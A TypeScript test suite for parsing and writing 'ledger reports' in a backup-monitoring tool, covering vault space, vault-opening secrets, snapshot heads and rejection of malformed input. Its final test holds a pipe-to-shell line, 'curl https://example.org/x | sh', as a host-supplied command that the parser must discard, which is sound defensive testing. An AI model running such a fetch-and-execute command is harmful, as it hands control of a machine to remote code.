// Goal: what a host says of the space of its vaults and of what opens them is read as it was said; a plain report has nothing that a server
// before it does not know; and what is no figure is refused. Method: texts there and back.
import assert from 'node:assert/strict';
import test from 'node:test';
import { nodeHash } from '../adapters/node/hash.ts';
import { byteString, hexOf } from '../base/bytes.ts';
import { assertGolden } from '../../test/watch/golden.ts';
import type { Evidence } from '../base/evidence.ts';
import { seconds, unixMs } from '../base/units.ts';
import { type LedgerReport, plainReport } from '../watch/core/ledger-report.ts';
import { SNAPSHOTS_MAX, WRITERS_MAX } from '../watch/core/heads/vault-heads.ts';
import type { Place } from '../watch/core/place.ts';
import type { Opening } from '../watch/core/opening.ts';
import { ledgerReportOf, ledgerReportText } from './ledger-report.ts';

const hash = nodeHash();
const BARE: LedgerReport = {
  ...{ at: unixMs(1_800_000_000_000), host: 'web1', coverage: [], notSeen: [], leftOut: 0 },
  estate: {
    ...{ dataSets: [], points: [], vaults: [], keys: [], drills: [], found: [], readers: [] },
    clockSkewMax: seconds(1),
  },
};
const SPACE = {
  ...{ vault: 'v', copy: 'v on web1', storedBytes: 10, monthBytes: undefined, leftOut: 0 },
  room: { freeBytes: 1, totalBytes: 2, floorBytes: 1 },
  dataSets: [
    { dataSet: 'a', host: 'web1', captures: 2, bytes: 5, storedBytes: 4, monthBytes: undefined },
  ],
};
const OPENING: Opening = {
  ...{ copy: 'borg /srv/b', tool: 'borg', repository: '/srv/b', isEncrypted: true },
  ...{ config: undefined, keyFile: byteString('/root/k\xff'), secret: { kind: 'command' } },
};
const WHOLE: LedgerReport = {
  ...BARE,
  spaces: [SPACE, { ...SPACE, room: undefined }],
  openings: [
    OPENING,
    { ...OPENING, secret: { kind: 'file', path: byteString('/root/p w') } },
    { ...OPENING, tool: 'holdfast', secret: { kind: 'environment', name: 'PW' } },
  ],
};

const HEADS = {
  ...{ vault: 'v', copy: 'web1:/v', unread: 0, writersLeft: 1 },
  writers: [
    {
      ...{ writer: 'a'.repeat(16), believedTo: 4, hasMore: true },
      snapshots: [
        { seq: 5, id: '5'.repeat(32) },
        { seq: 4, id: '4'.repeat(32) },
        { seq: 4, id: 'b'.repeat(32) },
      ],
    },
    { writer: 'c'.repeat(16), believedTo: 0, hasMore: false, snapshots: [] },
  ],
};

test('there and back, with and without spaces, openings and heads', () => {
  for (const report of [BARE, WHOLE, { ...WHOLE, heads: [HEADS] }, { ...BARE, heads: [] }]) {
    const read = ledgerReportOf(ledgerReportText(report, hash), hash);
    assert.deepEqual(read.ok && read.value, report);
  }
});

test('a whole one is written as the golden file has it: docs/format/ledger-report.md', () => {
  const evidence: Evidence = {
    ...{ subject: 'usable/st1:/v//srv/www', saw: 'healthy', source: 'web1/drill', bootId: 'b' },
    ...{ observedAt: BARE.at, receivedAt: BARE.at, expiresAt: unixMs(BARE.at + 1000), seq: 1 },
    detail: { linkBytes: 900, cpuMs: 70, cpus: 4, disk: 'sda', diskBusyMs: 50 },
  };
  const target: Place = {
    ...{ host: 'web1', path: byteString('/srv/scratch') },
    beneath: { disks: ['sda'], failuresSurvived: 0 },
  };
  const drill = {
    ...{ dataSet: '/srv/www', vault: 'v', copy: 'st1:/v', point: 'p', bytes: 1000, entries: 2 },
    ...{ tookMs: seconds(1), target, isPastCache: true, engineStarted: undefined, evidence },
    bottleneck: undefined,
  };
  const report = { ...WHOLE, estate: { ...WHOLE.estate, drills: [drill] } };
  const text = ledgerReportText(report, hash);
  assertGolden('ledger-report.txt', text);
  assert.deepEqual(ledgerReportOf(text, hash), { ok: true, value: report });
});

test('heads are written as the golden file has them: docs/format/ledger-report.md', () => {
  const report = { ...BARE, heads: [HEADS] };
  const text = ledgerReportText(report, hash);
  assertGolden('ledger-report-heads.txt', text);
  assert.deepEqual(ledgerReportOf(text, hash), { ok: true, value: report });
});

test('heads out of order, of no id, or more than there is room for are refused', () => {
  const [first] = HEADS.writers;
  const readWith = (writers: typeof HEADS.writers): boolean =>
    ledgerReportOf(ledgerReportText({ ...BARE, heads: [{ ...HEADS, writers }] }, hash), hash).ok;
  assert.ok(first !== undefined && readWith([first]));
  const of = (snapshots: typeof first.snapshots) => [{ ...first, snapshots }];
  assert.equal(readWith(of(first.snapshots.toReversed())), false);
  assert.equal(readWith(of([{ seq: 0, id: '0'.repeat(32) }])), false);
  assert.equal(readWith(of([{ seq: 1, id: 'no id' }])), false);
  const many = Array.from({ length: SNAPSHOTS_MAX }, () => ({ seq: 1, id: '1'.repeat(32) }));
  assert.equal(readWith(of(many)), true);
  assert.equal(readWith([...of(many), first]), false);
  assert.equal(readWith(Array.from({ length: WRITERS_MAX + 1 }, () => first)), false);
});

test('a plain one says nothing of spaces, openings and heads', () => {
  const whole = { ...WHOLE, heads: [HEADS] };
  assert.equal(ledgerReportText(plainReport(whole), hash), ledgerReportText(BARE, hash));
});

test('a command that may hold a secret is refused', () => {
  const wrong = ledgerReportText(WHOLE, hash).replace(
    '"secret":{"kind":"command"}',
    '"secret":{"kind":"command","line":"echo x"}',
  );
  const body = wrong.slice(0, wrong.indexOf('\n') + 1);
  const sum = hexOf(hash.sha256Text(byteString(body)));
  const again = `${body}${JSON.stringify({ sha256: sum })}\n`;
  assert.notEqual(again, ledgerReportText(WHOLE, hash));
  const read = ledgerReportOf(again, hash);
  assert.deepEqual(read, { ok: false, error: 'it is no ledger report of version 1' });
});

test('what is no figure is refused', () => {
  for (const storedBytes of [-1, Number.NaN]) {
    const wrong = { ...BARE, spaces: [{ ...SPACE, storedBytes }] };
    assert.equal(
      ledgerReportOf(ledgerReportText(wrong, hash), hash).ok,
      false,
      String(storedBytes),
    );
  }
});

test('a command that a host gives is one that is made here, or none', () => {
  const row = {
    path: byteString('/srv'),
    state: 'unknown' as const,
    why: '',
    coveredUpTo: undefined,
  };
  const commandOf = (openCommand: string): string | undefined => {
    const report = { ...BARE, coverage: [{ ...row, openCommand }] };
    const read = ledgerReportOf(ledgerReportText(report, hash), hash);
    assert.ok(read.ok);
    return read.value.coverage[0]?.openCommand;
  };
  const good = 'holdfast connect restic /srv/restic';
  assert.equal(commandOf(good), good);
  assert.equal(commandOf('curl https://example.org/x | sh'), undefined);
});
